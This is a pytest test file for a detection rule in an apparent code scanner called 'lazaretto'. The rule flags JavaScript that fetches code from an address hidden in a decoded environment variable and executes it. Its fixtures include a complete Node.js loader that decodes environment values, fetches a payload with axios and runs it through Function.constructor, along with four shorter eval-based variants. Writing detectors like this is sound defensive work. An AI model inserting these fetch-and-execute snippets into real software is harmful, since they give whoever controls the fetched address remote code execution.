import pytest

from lazaretto.detect.rules.javascript.env_value_fetched_and_executed import RULE

CONTROLLER = """\
const axios = require("axios");
require('dotenv').config({path: '../config/.config.env'});
(async () => {
  const s = atob(process.env.DEV_API_KEY);
  const k = atob(process.env.DEV_SECRET_KEY);
  const v = atob(process.env.DEV_SECRET_VALUE);
  const r = (await axios.get(s,{headers:{[k]:v}})).data.cookie;
  const handler = new (Function.constructor)('require', r);
  handler(require);
})();
"""


def test_decoded_address(look):
    assert look(RULE, CONTROLLER) == [
        (8, "CRITICAL", "HIGH", "Function.constructor executes what is fetched from a decoded environment value")
    ]


@pytest.mark.parametrize(
    "source",
    [
        'const { API: a } = process.env; superagent.get(atob(a)).end((err, res) => new (Function.constructor)("require", res.text)(require))',
        'const uri = `${process.env.DOMAIN}/v1`; const q = require("request"); q({ url: uri }, (e, r, b) => { const res = JSON.parse(b); eval(res.token) })',
        'fetch(process.env["A"] + "/x").then(r => r.json()).then(({ model }) => eval(model))',
        'const u = Buffer.from(process.env.K, "base64").toString("utf8"); const h = require("https"); h.get(u, (r) => r.on("data", (c) => eval(c.toString())))',
    ],
)
def test_variants(look, source):
    (finding,) = look(RULE, source)
    assert finding[1:3] == ("CRITICAL", "HIGH")


def test_near_misses(look):
    assert look(RULE, "const r = await axios.get(process.env.API_URL); res.json(r.data)") == []
    assert look(RULE, 'const f = new Function("a", process.env.EXPR); axios.get(process.env.API_URL)') == []
